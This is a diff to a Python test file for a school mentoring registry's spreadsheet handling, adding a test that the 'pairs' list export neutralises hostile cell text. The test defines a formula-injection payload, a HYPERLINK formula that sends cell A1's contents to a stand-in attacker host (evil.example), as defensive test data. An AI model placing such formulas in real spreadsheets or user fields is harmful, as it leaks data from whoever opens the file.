@@ -16,10 +16,12 @@ from uuid import uuid4
 from openpyxl import Workbook, load_workbook
 
 from services.registry.spreadsheet import COLUMNS, MAX_ROWS, Base, Problem, Row, read_base
+from services.reporting.list_exports import EXPORTS
 from shared.dictionaries import MenteeCategory
 from shared.sheets import neutralised, table_workbook, unneutralised
 
 TODAY = date.today()
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
 
 
 def book_of(lines: list[list[Any]]) -> bytes:
@@ -236,6 +238,7 @@ def test_more_rows_than_a_school_has_are_refused(tmp_path: Path) -> None:
 READ_IN_A_FRESH_PROCESS = """
 import json, re, sys, time, uuid
 from pathlib import Path
+from services.reporting.list_exports import EXPORTS
 from services.registry.spreadsheet import Base, read_base
 for name in sys.argv[1:]:
     content = Path(name).read_bytes()
@@ -297,3 +300,13 @@ def test_every_text_cell_is_written_as_text_that_no_spreadsheet_evaluates() -> N
     assert all(str(cell.value).startswith("'") for cell in cells[:-1])
     assert cells[-1].value == "Обычный текст"
     assert [unneutralised(str(cell.value)) for cell in cells] == hostile
+
+
+def test_the_list_exports_write_names_as_text_too() -> None:
+    pair = {"mentor": {"fullName": HOSTILE_NAME}, "mentees": [], "form": "student_student"}
+
+    content = EXPORTS["pairs"].workbook([pair])
+
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert sheet is not None
+    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'" + HOSTILE_NAME, "s")
